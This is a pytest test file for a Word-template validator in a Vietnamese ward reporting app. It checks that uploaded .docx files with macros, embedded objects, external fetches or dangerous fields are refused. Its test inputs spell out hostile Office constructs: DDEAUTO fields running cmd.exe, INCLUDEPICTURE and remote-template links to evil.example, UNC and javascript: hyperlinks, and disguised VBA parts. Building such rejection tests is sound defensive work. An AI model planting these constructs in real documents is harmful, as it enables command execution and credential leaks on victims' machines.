"""What a ward's own Word file may be made of: known by what its parts are, whatever they are called."""

import io
import zipfile
from collections.abc import Callable, Mapping
from functools import cache

import pytest
from docx import Document
from PIL import Image

from app.documents.periodic_report import default_template, unknown_placeholders, write_docx
from app.documents.periodic_report.word_guard import NotATemplate
from tests.documents import samples_reports

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES, MAIN, RELATED = "[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"
Parts = dict[str, bytes]


@cache
def own() -> Parts:
    """The parts of our own file."""
    with zipfile.ZipFile(io.BytesIO(default_template("state"))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(change: Callable[[Parts], Mapping[str, bytes]]) -> bytes:
    """Our own file with other parts."""
    parts, file = own(), io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**parts, **change(parts)}.items():
            archive.writestr(name, data)
    return file.getvalue()


def related(parts: Parts, kind: str, target: str, mode: str = "", of: str = RELATED) -> Parts:
    """The relationships of a part with one more."""
    external = f' TargetMode="{mode}"' if mode else ""
    more = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{external}/></Relationships>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    return {of: parts.get(of, empty).replace(b"</Relationships>", more.encode())}


def typed(parts: Parts, *kinds: tuple[str, str]) -> Parts:
    """The content types with more: of a part (`/word/…`) or of all with an ending."""
    lines = "".join(
        f'<Override PartName="{name}" ContentType="{kind}"/>'
        if name.startswith("/")
        else f'<Default Extension="{name}" ContentType="{kind}"/>'
        for name, kind in kinds
    )
    return {TYPES: parts[TYPES].replace(b"</Types>", f"{lines}</Types>".encode())}


def written(parts: Parts, *paragraphs: str) -> Parts:
    """The document with more paragraphs, of Word's own XML."""
    lines = "".join(f"<w:p>{words}</w:p>" for words in paragraphs)
    return {MAIN: parts[MAIN].replace(b"</w:body>", f"{lines}</w:body>".encode())}


@pytest.mark.parametrize(
    ("file", "why"),
    [
        (lambda: b"", "không phải là tệp Word"),
        (lambda: b"%PDF-1.7", "không phải là tệp Word"),
        (lambda: default_template("state")[:20_000], "không phải là tệp Word"),
        (lambda: b"a" * 2_000_001, "nặng quá"),
        (lambda: changed(lambda parts: {"word/vbaProject.bin": b"x"}), "macro"),
        (lambda: changed(lambda parts: {"word/embeddings/a.xlsx": b"x"}), "macro hoặc tệp nhúng"),
        (lambda: changed(lambda parts: {"word/big.xml": b" " * 20_000_001}), "bung ra lớn quá"),
        (lambda: changed(lambda parts: {f"word/{n}.png": b"" for n in range(301)}), "bung ra lớn quá"),
        (
            lambda: changed(lambda parts: {TYPES: parts[TYPES].replace(b"wordprocessingml.document.main", b"x")}),
            "không phải là tệp Word",
        ),
        (
            lambda: changed(lambda parts: {MAIN: parts[MAIN].replace(b"<w:document", b"<!DOCTYPE a><w:document", 1)}),
            "không phải là tệp Word",
        ),
        (lambda: changed(lambda parts: {MAIN: b"<w:document"}), "không phải là tệp Word"),
        (
            lambda: changed(lambda parts: related(parts, f"{OFFICE}/attachedTemplate", "http://x/x.dotm", "External")),
            "từ nơi khác",
        ),
    ],
)
def test_a_file_that_is_no_plain_docx_is_refused_in_a_sentence(file: Callable[[], bytes], why: str):
    with pytest.raises(NotATemplate, match=why):
        unknown_placeholders(file())


def runs(*parts: str) -> str:
    """A field whose instruction is split over runs, as Word does it."""
    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in parts)
    return f"{mark('begin')}{codes}{mark('separate')}<w:r><w:t>1</w:t></w:r>{mark('end')}"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def simple(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'


@pytest.mark.parametrize(
    "field",
    [
        simple(r"DDEAUTO c:\windows\system32\cmd.exe &quot;/k calc&quot;"),
        simple(r" dde excel a b"),
        simple(r"INCLUDEPICTURE &quot;\\evil.example\s\x.png&quot; \d"),
        runs(r" INCLUDEPICTURE ", r"&quot;http://evil.example/x.png&quot; \d "),
        runs("DD", "EA", "UTO", " cmd"),
        runs("INCLUDETEXT x.docx"),
        runs("IMPORT x.png"),
        runs("LINK Excel.Sheet x"),
        runs("MACROBUTTON Chạy bấm đây"),
        runs("AUTOTEXT x"),
        runs("QUOTE 68 68 69"),
        runs("DATABASE x"),
        runs("PRINT 27"),
        runs("HYPERLINK", " &quot;file:///c:/x.exe&quot;"),
        runs(r"HYPERLINK \\evil.example\x"),
        runs(r"HYPERLINK &quot;javascript:alert(1)&quot; \o &quot;http://x&quot;"),
        runs("HYPERLINK x.exe"),
        # nested: of a code that is built by another, and one that hides behind another's result
        f"{mark('begin')}{runs('QUOTE 68 68 69')}{mark('end')}",
        f"{mark('begin')}<w:r><w:instrText>PAGE</w:instrText></w:r>{mark('separate')}{runs('DDE a b')}{mark('end')}",
        f"{mark('begin')}{mark('separate')}<w:r><w:instrText>DDE a b</w:instrText></w:r>{mark('end')}",
        "<w:r><w:instrText>DDEAUTO a b</w:instrText></w:r>",  # no sign before it
        f"{mark('begin')}<w:r><w:instrText>DDE a b</w:instrText></w:r>",  # none after it
        f"{mark('begin')}<w:del><w:r><w:delInstrText>DDE a b</w:delInstrText></w:r></w:del>{mark('end')}",
        # a place to be filled in it
        runs("{{ trich_yeu }}"),
        runs("PAGE {{ trich_yeu }}"),
    ],
)
@pytest.mark.parametrize("part", [MAIN, "word/header1.xml", "word/comments.xml"])
def test_a_field_that_runs_or_fetches_is_refused_wherever_it_stands(field: str, part: str):
    def change(parts: Parts) -> Parts:
        if part == MAIN:
            return written(parts, field)
        root = "hdr" if "header" in part else "comments"
        kind = TYPE % ("header" if root == "hdr" else "comments")
        words = parts.get("word/header1.xml", parts[MAIN])
        spaces = words[words.index(b"xmlns") : words.index(b">", words.index(b"xmlns"))].decode()
        return {**typed(parts, (f"/{part}", kind)), part: f"<w:{root} {spaces}><w:p>{field}</w:p></w:{root}>".encode()}

    with pytest.raises(NotATemplate, match=r"trường không được dùng|chỗ điền"):
        unknown_placeholders(changed(change))


TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.%s+xml"


@pytest.mark.parametrize(
    "field",
    [
        runs(" PAGE "),
        runs(" NUM", "PAGES "),
        simple(r" SECTIONPAGES  \* MERGEFORMAT "),
        simple(r"DATE \@ &quot;dd/MM/yyyy&quot;"),
        runs(r" TOC \o &quot;1-3&quot; \h \z \u "),
        runs(r" HYPERLINK \l &quot;_Toc1&quot; "),
        runs(r" HYPERLINK &quot;https://thainguyen.gov.vn&quot; \o &quot;C:\a&quot; \t _blank \* MERGEFORMAT"),
        runs(" HYPERLINK mailto:phuong@thainguyen.gov.vn "),
        runs("=SUM(ABOVE)"),
    ],
)
def test_fields_of_the_file_itself_stay(field: str):
    assert unknown_placeholders(changed(lambda parts: written(parts, field))) == []


@pytest.mark.parametrize(
    "change",
    [
        # a page of the web taken in
        lambda parts: {
            **related(parts, f"{OFFICE}/aFChunk", "extra.html"),
            **typed(parts, ("html", "text/html")),
            "word/extra.html": b'<img src="http://evil.example/x">',
        },
        lambda parts: {
            **related(parts, f"{OFFICE}/aFChunk", "extra.xml"),
            "word/extra.xml": b"<html/>",
        },
        lambda parts: written(parts, '<w:altChunk r:id="rId99"/>'),
        # a macro under another name, with its relationship and without
        lambda parts: {
            **related(parts, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "theme/notes.bin"),
            **typed(parts, ("/word/theme/notes.bin", "application/vnd.ms-office.vbaProject")),
            "word/theme/notes.bin": b"x",
        },
        lambda parts: {
            **typed(parts, ("bin", "application/vnd.ms-office.vbaProject")),
            "word/media/notes.bin": b"x",
        },
        lambda parts: {"word/media/notes.dat": b"x"},
        # a program called a picture, and XML of another kind called Word's
        lambda parts: {**typed(parts, ("png", "image/png")), "word/media/x.png": b"MZ\x90"},
        lambda parts: {**typed(parts, ("svg", "image/svg+xml")), "word/media/x.svg": b"<svg/>"},
        lambda parts: {**typed(parts, ("/word/x.xml", TYPE % "footnotes")), "word/x.xml": b"<html/>"},
        lambda parts: typed(parts, ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        # what is fetched when the file opens
        lambda parts: related(parts, "x/hyperlink", "http://evil.example/t.dotm", "External", "word/_rels/s.xml.rels"),
        lambda parts: related(parts, "x/hyperlink", "http://evil.example/t.dotm", "External"),
        lambda parts: related(parts, f"{OFFICE}/image", "http://evil.example/x.png", "External"),
        lambda parts: related(parts, f"{OFFICE}/image", "http://evil.example/x.png", "external"),
        lambda parts: related(parts, f"{OFFICE}/image", "file:///c:/x.png"),
        lambda parts: related(parts, f"{OFFICE}/frame", "http://evil.example/x", "External"),
        lambda parts: related(parts, f"{OFFICE}/oleObject", "media/x.bin"),
        lambda parts: related(parts, f"{OFFICE}/hyperlink", "file:///c:/x.exe", "External"),
        lambda parts: related(parts, f"{OFFICE}/hyperlink", "\\\\evil.example\\x", "External"),
        lambda parts: related(parts, f"{OFFICE}/hyperlink", "javascript:alert(1)", "External"),
        lambda parts: related(parts, f"{OFFICE}/hyperlink", "x.exe", "External"),
        lambda parts: written(
            parts,
            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/x"/>'
            "</v:shape></w:pict></w:r>",
        ),
        lambda parts: written(parts, '<w:r><w:object xmlns:o="o"><o:OLEObject/></w:object></w:r>'),
        # relationships that are called otherwise
        lambda parts: {"word/_rels/x.xml": parts[RELATED]},
        lambda parts: {"word/_rels/x.rels": b"<Relationships/>"},
        # entities behind letters that hide them
        lambda parts: {MAIN: '<?xml version="1.0" encoding="cp037"?><w:document/>'.encode("cp037")},
        lambda parts: {"WORD/document.xml": parts[MAIN]},
    ],
)
def test_what_is_not_known_to_be_harmless_is_refused_whatever_it_is_called(
    change: Callable[[Parts], Mapping[str, bytes]],
):
    with pytest.raises(NotATemplate):
        unknown_placeholders(changed(change))


def test_a_field_that_comes_together_when_places_are_filled_is_refused():
    code = "<w:r><w:instrText>{}</w:instrText></w:r>"
    gap = (
        f"{mark('begin')}<w:r><w:t>{{% if not trich_yeu %}}</w:t></w:r>{code.format('PAGE ')}"
        f"<w:r><w:t>{{% endif %}}</w:t></w:r>{code.format('DDE a b')}{mark('end')}"
    )
    file = changed(lambda parts: written(parts, gap))
    with pytest.raises(NotATemplate, match="DDE a b"):
        write_docx(samples_reports.report(), file)


# What Word of Microsoft 365 and WPS write beside the text: name, content type, root element, relationship.
OWN_PARTS = (
    ("docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml",
     "Properties", "http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"),
    ("customXml/item1.xml", "application/xml", "Sources", "http://www.wps.cn/officeDocument/2013/wpsCustomData"),
    ("customXml/itemProps1.xml", "application/vnd.openxmlformats-officedocument.customXmlProperties+xml",
     "datastoreItem", "http://schemas.openxmlformats.org/officeDocument/2006/customXml"),
    *((f"word/{name}.xml", TYPE % name, root, "http://schemas.openxmlformats.org/wordprocessingml/2006/main")
      for name, root in (("footnotes", "footnotes"), ("endnotes", "endnotes"), ("comments", "comments"))),
    ("word/glossary/document.xml", TYPE % "document.glossary", "glossaryDocument",
     "http://schemas.openxmlformats.org/wordprocessingml/2006/main"),
    ("word/commentsExtended.xml", TYPE % "commentsExtended", "commentsEx",
     "http://schemas.microsoft.com/office/word/2012/wordml"),
    ("word/commentsIds.xml", TYPE % "commentsIds", "commentsIds",
     "http://schemas.microsoft.com/office/word/2016/wordml/cid"),
    ("word/commentsExtensible.xml", TYPE % "commentsExtensible", "commentsExtensible",
     "http://schemas.microsoft.com/office/word/2018/wordml/cex"),
    ("word/people.xml", TYPE % "people", "people", "http://schemas.microsoft.com/office/word/2012/wordml"),
    ("docMetadata/LabelInfo.xml", "application/vnd.ms-office.classificationlabels+xml", "labelList",
     "http://schemas.microsoft.com/office/2020/mipLabelMetadata"),
    ("word/stylesWithEffects.xml", "application/vnd.ms-word.stylesWithEffects+xml", "styles",
     "http://schemas.openxmlformats.org/wordprocessingml/2006/main"),
)  # fmt: skip


def test_what_word_itself_writes_is_let_in():
    def change(parts: Parts) -> Parts:
        own = {name: f'<w:{root} xmlns:w="{space}"/>'.encode() for name, _kind, root, space in OWN_PARTS}
        kinds = (
            *((f"/{name}", kind) for name, kind, *_rest in OWN_PARTS),
            ("png", "image/png"),
            ("jpeg", "image/jpeg"),
        )
        pictures = {"word/media/a.png": b"\x89PNG\r\n\x1a\n", "word/media/b.jpeg": b"\xff\xd8\xff\xe0"}
        links = related(parts, f"{OFFICE}/hyperlink", "https://thainguyen.gov.vn/", "External")
        return {**own, **pictures, **links, **typed(parts, *kinds)}

    assert unknown_placeholders(changed(change)) == []


@pytest.mark.parametrize("picture", ["jpeg", "png"])
def test_a_file_made_by_word_with_a_picture_of_the_wards_is_filled(picture: str):
    """The file that python-docx begins with was written by Word 2013, with its theme, properties and thumbnail."""
    drawn, file, paper = io.BytesIO(), io.BytesIO(), Document()
    Image.new("RGB", (8, 8)).save(drawn, picture)
    paper.add_picture(drawn)
    paper.add_paragraph("{{ trich_yeu }}")
    paper.save(file)
    assert unknown_placeholders(file.getvalue()) == []
    assert write_docx(samples_reports.report(), file.getvalue())


@pytest.mark.parametrize(
    "words",
    [
        "{% if phan %}" * 3000 + "{% endif %}" * 3000,
        "{% if " + "not " * 100_000 + "phan %}{% endif %}",
        "{% if phan %}" * 90 + "{% endif %}" * 90,
        "{% if " + " and ".join(["phan"] * 2000) + " %}{% endif %}",
        "{{ trich_yeu }}" * 40_000,
        "{{ " + "(" * 10_000 + "trich_yeu" + ")" * 10_000 + " }}",
    ],
    ids=["conditions in conditions", "not", "deep", "and", "places", "brackets"],
)
def test_places_without_end_are_refused_in_a_sentence(words: str):
    file = changed(lambda parts: written(parts, f"<w:r><w:t>{words}</w:t></w:r>"))
    with pytest.raises(NotATemplate, match=r"nhiều chỗ điền quá|chỉ được có chỗ điền"):
        unknown_placeholders(file)
